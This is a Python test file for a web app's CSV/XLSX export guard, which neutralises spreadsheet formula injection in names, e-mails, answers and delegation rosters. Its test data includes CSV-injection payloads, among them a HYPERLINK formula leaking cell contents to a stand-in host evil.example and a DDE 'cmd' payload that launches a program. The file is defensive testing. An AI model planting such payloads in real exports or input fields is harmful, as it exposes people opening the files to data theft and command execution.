"""Every cell of every CSV/XLSX export goes through one formula guard: names, e-mail addresses, answers,
question labels, criteria, allocations, travel arrangements."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from ecosystem.auth.models import User
from ecosystem.core.exports import FORMULA_STARTS, safe_cell
from ecosystem.delegations.models import ApplicationStatus
from ecosystem.events.models import Event
from ecosystem.events.registration import register
from ecosystem.events.registration_checks import AttendeeRequest
from ecosystem.extensions import db
from tests.delegations.review_support import coordinator, make_application, make_call
from tests.factories import make_event, make_startup, make_user

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "＝1+1", "＋1", "－2", "＠x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_guard_makes_formula_text_plain_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Thị Hoà", "0912345678", "a=b", "", "x-1", "Trà (=ngon)"])
def test_the_guard_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value


def test_the_guard_leaves_numbers_and_empty_cells_alone():
    assert [safe_cell(value) for value in (-2, 1.5, None, 0)] == [-2, 1.5, None, 0]


def assert_no_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert cell.lstrip(" \u3000")[:1] not in FORMULA_STARTS and cell[:1] not in FORMULA_STARTS, repr(cell)


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes, sheet: str | None = None) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    rows = []
    for worksheet in [workbook[sheet]] if sheet else workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)  # never stored as a formula
            rows.append(tuple(cell.value for cell in row))
    return rows


def test_the_registrations_csv_guards_names_e_mails_answers_and_question_labels(app, client, auth):
    event = make_event(app, tickets=[{"name": "-2 vé", "capacity": 10}],
                       questions=[{"label": '=HYPERLINK("http://evil.example","Đơn vị")', "kind": "text"},
                                  {"label": "＠Ghi chú", "kind": "text"}])
    attendee = make_user(app, full_name="+1 Trần Thị Hoa", email="=1+1@example.com")
    with app.test_request_context():
        user = db.session.get(User, attendee.id)
        register(db.session.get(Event, event.id), user,
                 [AttendeeRequest(user, event.ticket_type_ids[0], {event.question_ids[0]: "\t=cmd|' /C calc'!A0",
                                                                    event.question_ids[1]: "  @SUM(1)"})])
    auth.login(event.creator.email, event.creator.password)
    rows = csv_cells(client.get(f"/events/{event.slug}/registrations.csv").data)
    # Name, e-mail, phone, organisation, ticket, status, registered at, registered by, then the questions.
    assert rows[0][8:] == ['\'=HYPERLINK("http://evil.example","Đơn vị")', "'＠Ghi chú"]
    assert rows[1][:2] == ["'+1 Trần Thị Hoa", "'=1+1@example.com"]
    assert rows[1][4] == "'-2 vé"
    assert rows[1][7] == "'=1+1@example.com"  # registered by
    assert rows[1][8:] == ["'=cmd|' /C calc'!A0", "'@SUM(1)"]  # answers are stored stripped
    for row in rows:
        assert_no_formula(row)


@pytest.fixture
def hostile_delegation(app):
    """An accepted application whose every free-text value starts like a formula."""
    call = make_call(app, name="Techfest 2030", criteria=(("=1+2", 2), ("Thị trường", 1)),
                     allocations=(("@Đại học", 4, 10),))
    startup = make_startup(app, name='=HYPERLINK("http://evil.example")')
    member = make_user(app, email="-2@example.com")
    make_application(app, call, startup=startup, allocation=call.allocations[0], status=ApplicationStatus.ACCEPTED,
                     product="＝Sản phẩm", travel_cost=1_000_000,
                     travellers=[(startup.owner, " =Nguyễn Thị Hoà", "+84912345678"), (member, "\n=1", "0912")])
    make_application(app, call, allocation=call.allocations[0], status=ApplicationStatus.SUBMITTED)
    boss = coordinator(app)
    return call, boss


@pytest.mark.parametrize("export", ["roster.csv", "roster.xlsx", "ranking.xlsx"])
def test_the_delegation_exports_guard_every_cell(app, client, auth, hostile_delegation, export):
    call, boss = hostile_delegation
    auth.login(boss.email, boss.password)
    response = client.get(f"/techfest/{call.slug}/{export}")
    assert response.status_code == 200
    rows = csv_cells(response.data) if export.endswith(".csv") else xlsx_cells(response.data)
    assert len(rows) > 1
    for row in rows:
        assert_no_formula(row)
    cells = {cell for row in rows for cell in row}
    if export.startswith("roster"):
        assert {'\'=HYPERLINK("http://evil.example")', "'＝Sản phẩm", "' =Nguyễn Thị Hoà", "'-2@example.com",
                "'\n=1", "'@Đại học", "'+84912345678"} <= cells
    else:
        assert "'=1+2 (×2)" in cells


def test_the_settlement_xlsx_guards_every_cell(app, client, auth, hostile_delegation):
    call, boss = hostile_delegation
    with app.app_context():
        from ecosystem.delegations.models import Application

        application = db.session.scalar(db.select(Application).where(Application.status == ApplicationStatus.ACCEPTED))
        application.travel_arrangements = " @Xe khách"
        db.session.commit()
    auth.login(boss.email, boss.password)
    rows = xlsx_cells(client.get(f"/techfest/{call.slug}/settlement.xlsx").data)
    for row in rows:
        assert_no_formula(row)
    cells = {cell for row in rows for cell in row}
    assert {"'@Đại học", '\'=HYPERLINK("http://evil.example")', "' @Xe khách"} <= cells
